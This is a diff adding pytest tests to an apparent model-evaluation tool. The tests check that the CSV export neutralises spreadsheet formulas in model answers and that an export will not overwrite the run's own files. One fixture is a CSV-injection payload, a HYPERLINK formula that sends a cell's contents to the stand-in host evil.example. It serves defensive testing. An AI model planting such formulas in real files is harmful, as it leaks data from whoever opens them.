@@ -5,6 +5,10 @@ from __future__ import annotations
 import asyncio
 import csv
 import json
+import os
+import subprocess
+import sys
+from pathlib import Path
 
 import pytest
 from scripted_server import ScriptedServer
@@ -13,6 +17,8 @@ from specbench_world import is_judge, world
 from specalign.benchmark import load_benchmark
 from specalign.errors import ConfigError
 from specalign.runs import Evaluation, RunConfig, compare_runs, export_verdicts, format_comparison
+
+REPO = Path(__file__).resolve().parent.parent
 
 
 def _run(server, out, **kw):
@@ -68,3 +74,40 @@ def test_compare_formats_and_baseline(tmp_path):
     assert json.loads(format_comparison(rows, "json"))[1]["label"] == "raw"
     with pytest.raises(ConfigError, match="none of the compared runs"):
         compare_runs([str(tmp_path / "a")], baseline="tpo")
+
+
+EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+@pytest.mark.parametrize("raw", [False, True])
+def test_export_csv_neutralises_formulas_unless_raw_cells(tmp_path, raw):
+    """A model answer that is a spreadsheet formula is written as text ('=...), or verbatim with --raw-cells."""
+    answers = iter([EVIL, "+1 call me", "'quoted", "@SUM(A1)", "plain"])
+    with ScriptedServer(lambda b: world(b) if is_judge(b) else next(answers, "plain")) as server:
+        _run(server, tmp_path / "run", scenarios=["child"], limit=2)
+    out = tmp_path / "v.csv"
+    cli = subprocess.run([sys.executable, "-m", "specalign.cli", "export", str(tmp_path / "run"), "-o", str(out),
+                          "--with-text", *(["--raw-cells"] if raw else [])], capture_output=True, text=True,
+                         env={**os.environ, "PYTHONPATH": str(REPO / "src")}, timeout=120)
+    assert cli.returncode == 0, cli.stderr
+    rows = list(csv.DictReader(out.open(newline="")))
+    responses = {r["response"] for r in rows}
+    if raw:
+        assert EVIL in responses and "+1 call me" in responses
+    else:
+        assert "'" + EVIL in responses and "'+1 call me" in responses
+        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for v in r.values() if v)
+    jsonl = tmp_path / "v.jsonl"
+    export_verdicts([str(tmp_path / "run")], str(jsonl), with_text=True)
+    assert EVIL in {json.loads(x)["response"] for x in jsonl.read_text().splitlines()}  # JSON lines: verbatim
+
+
+def test_export_refuses_to_overwrite_the_run_it_reads(tmp_path):
+    with ScriptedServer(world) as server:
+        _run(server, tmp_path / "run", scenarios=["child"], limit=1)
+    before = (tmp_path / "run" / "generations.jsonl").read_bytes()
+    for name in ("generations.jsonl", "judgments.jsonl", "manifest.json"):
+        with pytest.raises(ConfigError, match="is a file of the run"):
+            export_verdicts([str(tmp_path / "run")], str(tmp_path / "run" / name), "jsonl")
+    assert (tmp_path / "run" / "generations.jsonl").read_bytes() == before
+    assert export_verdicts([str(tmp_path / "run")], str(tmp_path / "run" / "verdicts.csv")) > 0  # beside it is fine
